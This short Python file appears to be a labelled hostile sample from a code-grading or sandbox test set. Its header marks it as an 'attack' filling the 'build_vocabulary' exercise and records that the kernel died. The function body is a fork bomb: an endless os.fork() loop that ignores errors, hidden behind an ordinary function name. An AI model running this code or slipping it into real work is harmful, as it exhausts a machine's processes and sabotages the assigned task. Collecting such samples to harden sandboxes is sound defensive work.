# kind: fills
# attack: forks without end
# exercise: 1-embedding-matrix/build_vocabulary
# verdict: timed out, failed, kernel died
import os


def build_vocabulary(texts, vocab_size):
    while True:
        try:
            os.fork()
        except OSError:
            pass
